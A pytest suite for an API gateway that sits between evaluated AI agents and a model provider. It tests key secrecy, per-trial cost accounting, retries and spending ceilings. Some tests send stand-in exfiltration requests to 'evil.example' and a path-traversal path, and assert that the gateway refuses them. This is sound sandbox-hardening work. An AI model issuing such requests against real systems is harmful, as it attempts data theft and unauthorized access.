"""The gateway, as a process and in a container: doors, attribution, faults, refusals, the key's place."""

import json
import os
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path

import httpx2
import pytest

from skilleval.domain.price import Price, PriceTable
from skilleval.gateway import Gateway, GatewayConfig
from tests.builders_docker import leftovers, why_no_docker
from tests.builders_gateway import CACHED, FRESH, OUTPUT, Provider, serving
from tests.builders_launchers import WAYS, Way, end_of_stdin, pid_of, slot_folder, stored_of

KEY = "sk-secret-of-the-test-0123456789"
MODEL = "m-1"
PRICES = PriceTable(as_of=date(2026, 1, 1), prices=(Price(model=MODEL, input=10.0, output=50.0),))
CALL_USD = (FRESH * 10 + CACHED * 1 + OUTPUT * 50) / 1e6


@pytest.fixture
def provider() -> Iterator[Provider]:
    with serving(Provider()) as provider:
        yield provider


Start = Callable[..., Gateway]


@pytest.fixture(params=[pytest.param(way, id=way.name, marks=way.marks) for way in WAYS])
def start(request: pytest.FixtureRequest) -> Start:
    """Every way to start it."""
    way: Way = request.param

    def made(config: GatewayConfig, *, slots: int) -> Gateway:
        return Gateway(config, key=KEY, slots=slots, launcher=way.make())

    return made


def config(provider: Provider, **changes: object) -> GatewayConfig:
    plain = GatewayConfig(
        upstream=provider.url, models=(MODEL,), prices=PRICES, retries=2, backoff_s=0.02, silence_s=0.4
    )
    return plain.model_copy(update=changes)


def through(folder: Path) -> httpx2.Client:
    """A client inside a room: all it has is the socket."""
    return httpx2.Client(
        transport=httpx2.HTTPTransport(uds=str(folder / "model.sock"), verify=False),
        base_url="http://gateway",
        timeout=20,
    )


def ask(
    client: httpx2.Client, *, model: str = MODEL, stream: bool = False, **headers: str
) -> httpx2.Response:
    body = {
        "model": model,
        "stream": stream,
        "max_tokens": 5,
        "messages": [{"role": "user", "content": "hi"}],
    }
    return client.post(
        "/v1/messages?beta=true",
        json=body,
        headers={"x-api-key": "dummy", "anthropic-version": "v", **headers},
    )


def raw(folder: Path, request: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(10)
        sock.connect(str(folder / "model.sock"))
        sock.sendall(request)
        return sock.recv(65536)


def test_calls_are_put_down_to_the_trial_of_their_socket(provider: Provider, start: Start) -> None:
    """Plain and streamed calls through two sockets end in two accounts, and in the sum."""
    with start(config(provider), slots=2) as gateway:
        gateway.open(0, "trial-a")
        gateway.open(1, "trial-b")
        with through(slot_folder(gateway, 0)) as one, through(slot_folder(gateway, 1)) as two:
            plain = ask(one)
            streamed = ask(one, stream=True)
            ask(two)
        a, b, both = gateway.account("trial-a"), gateway.account("trial-b"), gateway.account()

    assert plain.json()["content"][0]["text"] == "done"
    assert "message_stop" in streamed.text
    assert (a.answered, b.answered, both.answered) == (2, 1, 3)
    assert a.usage.fresh_tokens == 2 * FRESH
    assert a.usage.cached_tokens == 2 * CACHED
    assert a.usage.output_tokens == 2 * OUTPUT
    assert a.usage.cost_usd == pytest.approx(2 * CALL_USD)
    assert both.usage.cost_usd == pytest.approx(3 * CALL_USD)


def test_the_key_reaches_the_provider_and_nothing_else(
    provider: Provider, start: Start, tmp_path: Path
) -> None:
    """The provider sees the real key; no file, argument, environment or answer of ours holds it."""
    with start(config(provider, log_folder=str(tmp_path)), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            answer = ask(client)
        shown = stored_of(gateway) + repr(gateway) + answer.text + str(answer.headers)

    assert provider.headers[0]["x-api-key"] == KEY
    assert KEY not in shown
    assert "none-of-its-business" not in shown
    assert all(KEY not in file.read_text() for file in tmp_path.iterdir())


def test_a_new_trial_gets_a_new_socket(provider: Provider, start: Start) -> None:
    """A connection of the trial before ends, and what comes now is the new trial's."""
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "first")
        with through(slot_folder(gateway, 0)) as old:
            ask(old)
            gateway.open(0, "second")
            ask(old)  # a broken connection is opened anew, on the new socket
        gateway.close(0)
        first, second = gateway.account("first"), gateway.account("second")
        left = list(slot_folder(gateway, 0).iterdir())

    assert (first.answered, second.answered) == (1, 1)
    assert left == []


@pytest.mark.parametrize(
    "request_line",
    [
        "CONNECT evil.example:443 HTTP/1.1",
        "GET http://evil.example/steal?x=1 HTTP/1.1",
        "POST http://1.2.3.4:8/ HTTP/1.1",
    ],
)
def test_a_proxy_request_is_refused_and_remembered(
    provider: Provider, start: Start, request_line: str
) -> None:
    """Everything but the model is refused; host, port and method are known, the path is not."""
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        answer = raw(
            slot_folder(gateway, 0), f"{request_line}\r\nHost: x\r\nContent-Length: 0\r\n\r\n".encode()
        )
        refused = gateway.account("t").refused

    assert answer.startswith(b"HTTP/1.1 403")
    assert len(refused) == 1
    assert refused[0].trial == "t"
    assert refused[0].method == request_line.split(maxsplit=1)[0]
    assert refused[0].target in {"evil.example:443", "evil.example", "1.2.3.4:8"}


@pytest.mark.parametrize(
    "path", ["/v1/models", "/skilleval/account", "/v1/messages/../../skilleval/account", "/"]
)
def test_a_room_reaches_no_other_path(provider: Provider, start: Start, path: str) -> None:
    """The bot's own paths do not exist on a trial's socket, nor do others of the provider."""
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        answer = raw(slot_folder(gateway, 0), f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        refused = gateway.account("t").refused

    assert answer.startswith(b"HTTP/1.1 403")
    assert len(refused) == 1


def test_another_model_is_refused(provider: Provider, start: Start) -> None:
    """Only the plan's models are asked; the provider does not see the call."""
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            answer = ask(client, model="m-2")

    assert answer.status_code == 404
    assert provider.headers == []


@pytest.mark.parametrize(("name", "value"), [("x-api-key", "{}"), ("authorization", "Bearer {}")])
def test_the_key_goes_the_way_the_client_chose(
    provider: Provider, start: Start, name: str, value: str
) -> None:
    """The CLI sends a key header, newer SDKs a bearer; the provider gets the real key in the same place."""
    with start(config(provider), slots=1) as gateway, httpx2.Client(base_url=gateway.url) as bot:
        answer = bot.post(
            "/v1/messages",
            json={"model": MODEL, "max_tokens": 5, "messages": []},
            headers={name: value.format(gateway.token)},
        )
    sent = provider.headers[0]

    assert answer.status_code == 200
    assert sent[name] == value.format(KEY)
    assert gateway.token not in str(sent)


def test_the_bot_needs_its_token(provider: Provider, start: Start) -> None:
    """Whoever finds the port on loopback gets nothing without the token."""
    with (
        start(config(provider), slots=1) as gateway,
        httpx2.Client(base_url=gateway.url) as client,
    ):
        stranger = ask(client)
        bot = client.post(
            "/v1/messages",
            json={"model": MODEL, "max_tokens": 5, "messages": []},
            headers={"x-api-key": gateway.token, "x-skilleval-trial": "of-the-bot"},
        )
        account = gateway.account("of-the-bot")

    assert stranger.status_code == 401
    assert bot.status_code == 200
    assert account.answered == 1


@pytest.mark.parametrize("fault", ["429", "429-date", "529", "cut", "silence", "malformed"])
def test_a_passing_fault_is_tried_again_and_counted_once(
    provider: Provider, start: Start, fault: str
) -> None:
    """The agent sees one whole answer, and the sums equal the server's own count."""
    provider.faults = [fault]
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            answer = ask(client, stream=True)
        account = gateway.account("t")

    assert "message_stop" in answer.text
    assert account.faults == ()
    assert account.troubled_s > 0
    assert account.answered == provider.answered == 1
    assert account.usage.output_tokens == OUTPUT


@pytest.mark.parametrize("fault", ["429", "529", "cut", "silence", "malformed", "wrong-model"])
def test_a_lasting_fault_is_ours_and_costs_the_agent_nothing(
    provider: Provider, start: Start, fault: str
) -> None:
    """After the retries the agent gets an error that it shall not repeat, and the account names the fault."""
    provider.faults = [fault] * 9
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            answer = ask(client, stream=True)
        account = gateway.account("t")

    assert answer.status_code >= (429 if fault == "429" else 500)
    assert answer.headers["x-should-retry"] == "false"
    assert len(account.faults) == 1
    assert account.usage.tokens == 0


@pytest.mark.parametrize("fault", ["529", "cut"])
@pytest.mark.parametrize("leave", ["hangs up", "door closes"])
def test_what_nobody_waits_for_is_not_asked_again(
    provider: Provider, start: Start, leave: str, fault: str
) -> None:
    """The trial was ended while its call failed: another try would be paid for nobody."""
    provider.faults = [fault] * 9
    with start(config(provider, backoff_s=1.0), slots=1) as gateway:
        gateway.open(0, "t")
        folder = slot_folder(gateway, 0)
        with through(folder) as client, ThreadPoolExecutor(1) as pool:
            client.timeout = 0.3 if leave == "hangs up" else 20.0
            asking = pool.submit(ask, client)
            if leave == "door closes":
                while not provider.headers:
                    time.sleep(0.01)
                gateway.close(0)
            with pytest.raises(httpx2.HTTPError):
                asking.result()
        until = time.monotonic() + 10
        while not gateway.account("t").faults and time.monotonic() < until:
            time.sleep(0.05)
        account = gateway.account("t")

    assert len(account.faults) == 1
    assert len(provider.headers) == 1
    assert account.lost_usd <= CALL_USD  # once, if at all


@pytest.mark.parametrize(("fault", "words"), [("429-spent", "spending limit"), ("401", "authentication")])
def test_what_waiting_does_not_mend_ends_the_run(
    provider: Provider, start: Start, fault: str, words: str
) -> None:
    """A spent limit or a wrong key is said once; every later call is refused without asking."""
    provider.faults = [fault]
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            ask(client)
            later = ask(client)
        account = gateway.account("t")

    assert words in account.fatal
    assert later.status_code == 403
    assert len(provider.headers) == 1


def test_the_ceiling_holds(provider: Provider, start: Start) -> None:
    """At max-cost-usd nothing more is asked, and the account says so."""
    with start(config(provider, max_cost_usd=CALL_USD * 1.5), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            statuses = [ask(client).status_code for _ in range(4)]
        account = gateway.account("t")

    assert statuses == [200, 200, 403, 403]
    assert "max-cost-usd" in account.fatal


def test_what_a_cut_answer_cost_is_part_of_the_ceiling(provider: Provider, start: Start) -> None:
    """The tokens of an answer that broke off are paid, so they are summed, apart from the trial's usage."""
    provider.faults = ["cut"]
    with start(config(provider), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            ask(client, stream=True)
        account = gateway.account("t")

    assert account.lost_usd > 0
    assert account.usage.cost_usd == pytest.approx(CALL_USD)


def test_the_logs_hold_counts_and_no_text(provider: Provider, start: Start, tmp_path: Path) -> None:
    """One line a call and one a refused attempt: whose, what, how much; never a body."""
    with start(config(provider, log_folder=str(tmp_path)), slots=1) as gateway:
        gateway.open(0, "t")
        with through(slot_folder(gateway, 0)) as client:
            ask(client)
        raw(slot_folder(gateway, 0), b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
        gateway.account()
    calls = [json.loads(line) for line in (tmp_path / "model-calls.jsonl").read_text().splitlines()]
    refused = [json.loads(line) for line in (tmp_path / "refused.jsonl").read_text().splitlines()]

    assert calls[0]["trial"] == "t"
    assert calls[0]["usage"]["output_tokens"] == OUTPUT
    assert "done" not in json.dumps(calls)
    assert refused[0]["target"] == "evil.example:443"


def test_a_gateway_ends_with_its_bot(provider: Provider, start: Start) -> None:
    """When the bot's end of stdin closes, however it died, the process is gone and its key with it."""
    with start(config(provider), slots=1) as gateway:
        pid = pid_of(gateway)
        end_of_stdin(gateway)
        until = time.monotonic() + 10
        while _is_alive(pid) and time.monotonic() < until:
            time.sleep(0.05)

        assert not _is_alive(pid)


def _is_alive(pid: int) -> bool:
    """Return whether a process runs; one that ended and that nobody asked for yet does not."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


def test_fifty_doors_open_quickly(provider: Provider, start: Start) -> None:
    """Fifty sockets serve at the same time, each its own trial."""
    with start(config(provider), slots=50) as gateway:
        with ThreadPoolExecutor(16) as pool:
            list(pool.map(lambda number: gateway.open(number, f"t{number}"), range(50)))

        def one(number: int) -> int:
            with through(slot_folder(gateway, number)) as client:
                return ask(client).status_code

        with ThreadPoolExecutor(16) as pool:
            statuses = list(pool.map(one, range(50)))
        answered = [gateway.account(f"t{number}").answered for number in range(50)]

    assert statuses == [200] * 50
    assert answered == [1] * 50


def test_nothing_is_left_behind(provider: Provider, start: Start) -> None:
    """After the context neither process nor container, folder nor volume is there."""
    before = set() if why_no_docker() else leftovers()
    with start(config(provider), slots=2) as gateway:
        pid, folders = pid_of(gateway), [slot_folder(gateway, number) for number in range(2)]

    assert not any(folder.exists() for folder in folders)
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    if not why_no_docker():
        assert leftovers() == before
